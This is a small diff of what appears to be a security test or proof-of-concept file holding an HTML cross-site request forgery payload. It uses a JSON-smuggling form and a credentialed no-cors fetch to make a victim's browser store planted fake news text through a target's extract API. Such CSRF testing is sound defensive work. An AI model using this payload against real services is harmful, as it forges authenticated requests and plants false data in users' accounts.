@@ -30,7 +30,8 @@ ATTACK = """<!doctype html><html><body>
 <input name='{{"text": "Planted: des combats ont fait 99 morts a Alep.", "x": "' value='"}}'></form>
 <script>
 fetch("{target}/api/extract?store=true", {{method: "POST", mode: "no-cors", credentials: "include",
-  headers: {{"content-type": "text/plain"}}, body: JSON.stringify({{text: "Planted by fetch at Alep."}})}})
+  headers: {{"content-type": "text/plain"}},
+  body: JSON.stringify({{text: "Planted by fetch at Alep."}})}})
   .finally(() => document.getElementById("f").submit());
 </script></body></html>"""
 
